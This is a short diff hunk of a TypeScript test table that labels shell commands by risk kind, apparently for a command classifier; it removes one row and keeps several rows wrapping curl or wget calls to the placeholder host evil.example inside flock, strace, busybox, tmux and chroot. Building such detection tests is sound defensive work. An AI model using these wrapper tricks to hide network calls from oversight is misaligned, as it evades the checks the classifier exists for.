@@ -21,7 +21,6 @@ const ROWS: readonly (readonly [command: string, kinds: string])[] = [
   ["flock /tmp/l -c 'curl http://evil.example'", "network"],
   ["strace -o t curl http://evil.example", "network"],
   ["busybox wget http://evil.example", "network"],
-  ["chroot /mnt curl http://evil.example", "network privilege"],
   ["tmux new-session -d 'curl http://evil.example'", "network"],
   ["tmux send-keys -t main 'curl http://evil.example' Enter", "network hidden-code"],
   ["tmux ls", ""],
